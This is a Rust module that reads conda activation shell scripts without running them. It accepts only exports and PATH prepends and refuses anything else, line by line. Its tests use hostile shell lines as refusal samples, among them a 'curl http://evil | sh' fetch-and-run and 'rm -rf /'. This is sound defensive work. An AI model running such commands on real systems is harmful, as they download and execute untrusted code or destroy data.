//! Reads an `activate.d/*.sh` script without running it.
//!
//! Most activation scripts only export variables built from `$CONDA_PREFIX` and put a directory
//! in front of `PATH`. Those are evaluated here, as text: no package code runs on the build
//! host. A script with anything else in it (a condition, a command, a command substitution, a
//! variable this module cannot know) is refused as a whole, with the line that made it so, and
//! the caller skips it; running scripts is a separate opt-in (`--run-activation-scripts`).
//!
//! The shell subset accepted: blank lines and comments; `export NAME=WORD ...`, `export NAME`
//! and `NAME=WORD ...`, where a WORD is made of plain characters, '…' strings and "…" strings
//! with `$NAME` / `${NAME}` of variables already known; `PATH=DIR:...:$PATH` prepends.

use std::collections::BTreeMap;

/// What a static script sets.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct StaticScript {
    /// Exported variables, in the order they were set (a later value of a name wins).
    pub exports: Vec<(String, String)>,
    /// Directories the script puts in front of `PATH`, first one first.
    pub path_prepend: Vec<String>,
}

/// Why a script is not static: the 1-based line and what on it.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line} ({text:?}): {why}")]
pub struct NotStatic {
    pub line: usize,
    pub text: String,
    pub why: String,
}

/// Evaluates `script` against `known` (variables set before it runs, such as `CONDA_PREFIX`).
pub fn evaluate(script: &str, known: &BTreeMap<String, String>) -> Result<StaticScript, NotStatic> {
    let mut vars = known.clone();
    let mut out = StaticScript::default();
    for (i, raw) in script.lines().enumerate() {
        let fail = |why: String| NotStatic {
            line: i + 1,
            text: raw.trim().chars().take(120).collect(),
            why,
        };
        let tokens = tokenize(raw).map_err(|w| fail(w.into()))?;
        let Some(first) = tokens.first() else {
            continue;
        };
        let (export, words) = if first.is_literal("export") {
            (true, &tokens[1..])
        } else {
            (false, &tokens[..])
        };
        for word in words {
            match word.assignment() {
                Some((name, value)) => {
                    if name == "PATH" {
                        let prepend = path_prepend(value, &vars).map_err(fail)?;
                        out.path_prepend.extend(prepend);
                        continue;
                    }
                    let value = expand(value, &vars).map_err(fail)?;
                    vars.insert(name.clone(), value.clone());
                    if export || out.exports.iter().any(|(n, _)| *n == name) {
                        out.exports.push((name, value));
                    }
                }
                None if export => {
                    // `export NAME`: exports a variable set earlier in the script.
                    let name = word.plain_name().ok_or_else(|| {
                        fail("`export` of something that is not a variable name".into())
                    })?;
                    match vars.get(&name) {
                        Some(v) if !known.contains_key(&name) => {
                            out.exports.push((name, v.clone()))
                        }
                        Some(_) => {}
                        None => return Err(fail(format!("exports ${name}, which is not set"))),
                    }
                }
                None => return Err(fail("runs a command".into())),
            }
        }
    }
    Ok(out)
}

/// One piece of a word: literal text or a variable reference.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Piece {
    /// Text, and whether it was quoted (a quoted `=` does not make an assignment).
    Text(String, bool),
    Var(String),
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct Word(Vec<Piece>);

impl Word {
    fn is_literal(&self, s: &str) -> bool {
        matches!(self.0.as_slice(), [Piece::Text(t, false)] if t == s)
    }

    fn plain_name(&self) -> Option<String> {
        match self.0.as_slice() {
            [Piece::Text(t, false)] if is_name(t) => Some(t.clone()),
            _ => None,
        }
    }

    /// `NAME=rest`, when the word starts with an unquoted name and `=`.
    fn assignment(&self) -> Option<(String, Word)> {
        let Some(Piece::Text(first, false)) = self.0.first() else {
            return None;
        };
        let (name, rest) = first.split_once('=')?;
        if !is_name(name) {
            return None;
        }
        let mut value = Vec::with_capacity(self.0.len());
        if !rest.is_empty() {
            value.push(Piece::Text(rest.to_string(), false));
        }
        value.extend(self.0[1..].iter().cloned());
        Some((name.to_string(), Word(value)))
    }
}

fn is_name(s: &str) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Splits a line into words, refusing anything beyond the accepted subset.
fn tokenize(line: &str) -> Result<Vec<Word>, &'static str> {
    let mut words = Vec::new();
    let mut word = Word::default();
    let mut in_word = false;
    let mut chars = line.chars().peekable();
    let push_text = |word: &mut Word, c: char, quoted: bool| match word.0.last_mut() {
        Some(Piece::Text(t, q)) if *q == quoted => t.push(c),
        _ => word.0.push(Piece::Text(c.to_string(), quoted)),
    };
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            '#' if !in_word => break,
            '\'' => {
                in_word = true;
                let mut closed = false;
                for c in chars.by_ref() {
                    if c == '\'' {
                        closed = true;
                        break;
                    }
                    push_text(&mut word, c, true);
                }
                if !closed {
                    return Err("a quote that does not close on its line");
                }
                // An empty '' still makes a word.
                word.0.push(Piece::Text(String::new(), true));
            }
            '"' => {
                in_word = true;
                let mut closed = false;
                while let Some(c) = chars.next() {
                    match c {
                        '"' => {
                            closed = true;
                            break;
                        }
                        '\\' => match chars.next() {
                            Some(e @ ('$' | '`' | '"' | '\\')) => push_text(&mut word, e, true),
                            Some(e) => {
                                push_text(&mut word, '\\', true);
                                push_text(&mut word, e, true);
                            }
                            None => return Err("a line continuation"),
                        },
                        '$' => word.0.push(Piece::Var(variable(&mut chars)?)),
                        '`' => return Err("a command substitution"),
                        c => push_text(&mut word, c, true),
                    }
                }
                if !closed {
                    return Err("a quote that does not close on its line");
                }
                word.0.push(Piece::Text(String::new(), true));
            }
            '$' => {
                in_word = true;
                word.0.push(Piece::Var(variable(&mut chars)?));
            }
            '\\' => return Err("a backslash outside quotes"),
            ';' | '&' | '|' | '<' | '>' | '(' | ')' | '`' => {
                return Err("shell syntax beyond plain assignments")
            }
            '*' | '?' | '[' | ']' | '{' | '}' => return Err("a pattern or brace outside quotes"),
            '~' => return Err("a `~` (the home directory of the build host)"),
            c => {
                in_word = true;
                push_text(&mut word, c, false);
            }
        }
    }
    if in_word {
        words.push(word);
    }
    Ok(words)
}

/// The name after a `$`: `NAME` or `{NAME}`; anything else (`$(`, `$1`, `${X:-y}`) is refused.
fn variable(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Result<String, &'static str> {
    let braced = chars.peek() == Some(&'{');
    if braced {
        chars.next();
    }
    let mut name = String::new();
    while let Some(&c) = chars.peek() {
        if c.is_ascii_alphanumeric() || c == '_' {
            name.push(c);
            chars.next();
        } else {
            break;
        }
    }
    if braced && chars.next() != Some('}') {
        return Err("a ${…} expansion with an operator");
    }
    if !is_name(&name) {
        return Err("a $ that is not a plain variable reference");
    }
    Ok(name)
}

fn expand(word: Word, vars: &BTreeMap<String, String>) -> Result<String, String> {
    let mut out = String::new();
    for piece in word.0 {
        match piece {
            Piece::Text(t, _) => out.push_str(&t),
            Piece::Var(name) if name == "PATH" => {
                return Err("uses $PATH outside a PATH assignment".into())
            }
            Piece::Var(name) => match vars.get(&name) {
                Some(v) => out.push_str(v),
                None => return Err(format!("uses ${name}, which is not known at build time")),
            },
        }
    }
    Ok(out)
}

/// `PATH=A:B:$PATH` → `[A, B]`; `$PATH` must be there, once, at the end.
fn path_prepend(word: Word, vars: &BTreeMap<String, String>) -> Result<Vec<String>, String> {
    const MARK: &str = "\u{0}PATH\u{0}";
    let mut text = String::new();
    for piece in word.0 {
        match piece {
            Piece::Var(name) if name == "PATH" => text.push_str(MARK),
            other => text.push_str(&expand(Word(vec![other]), vars)?),
        }
    }
    let entries: Vec<&str> = text.split(':').collect();
    match entries.split_last() {
        Some((&last, rest)) if last == MARK && !rest.contains(&MARK) => Ok(rest
            .iter()
            .filter(|e| !e.is_empty())
            .map(|e| e.to_string())
            .collect()),
        _ => Err("sets PATH other than by putting directories in front of $PATH".into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn known() -> BTreeMap<String, String> {
        BTreeMap::from([("CONDA_PREFIX".to_string(), "/opt/conda".to_string())])
    }

    #[test]
    fn exports_and_path_prepends_are_evaluated() {
        let script = "#!/bin/sh\n# a comment\n\nexport ACT_HOME=\"$CONDA_PREFIX/share/act\"\n\
                      export ACT_MODE=fast  # trailing\nLOCAL=${CONDA_PREFIX}/lib\n\
                      export ACT_LIB=\"$LOCAL\":'$literal'\nexport PATH=\"$CONDA_PREFIX/libexec:$PATH\"\n\
                      GDAL_DATA=$CONDA_PREFIX/share/gdal\nexport GDAL_DATA\n";
        let got = evaluate(script, &known()).unwrap();
        assert_eq!(
            got.exports,
            [
                ("ACT_HOME".into(), "/opt/conda/share/act".into()),
                ("ACT_MODE".into(), "fast".into()),
                ("ACT_LIB".into(), "/opt/conda/lib:$literal".into()),
                ("GDAL_DATA".into(), "/opt/conda/share/gdal".into()),
            ]
        );
        assert_eq!(got.path_prepend, ["/opt/conda/libexec"]);
    }

    #[test]
    fn anything_else_is_refused_with_its_line() {
        for (script, why) in [
            (
                "export A=1\nif [ -n \"$X\" ]; then export B=1; fi\n",
                "pattern or brace",
            ),
            ("curl http://evil | sh\n", "shell syntax"),
            ("rm -rf /\n", "runs a command"),
            ("export A=$(id -u)\n", "plain variable reference"),
            ("export A=\"`id`\"\n", "command substitution"),
            ("export A=${B:-x}\n", "operator"),
            ("export A=\"$HOME/x\"\n", "HOME, which is not known"),
            ("export PATH=$PATH:/x\n", "in front of $PATH"),
            ("export A=\"$PATH\"\n", "outside a PATH assignment"),
            ("export A=~/x\n", "home directory"),
            ("export A='open\n", "does not close"),
        ] {
            let err = evaluate(script, &known()).unwrap_err();
            assert!(err.why.contains(why), "{script:?}: {err}");
            assert!(err.line >= 1, "{err}");
        }
        let err = evaluate("export A=1\n\nsource /etc/profile\n", &known()).unwrap_err();
        assert_eq!(err.line, 3);
    }
}
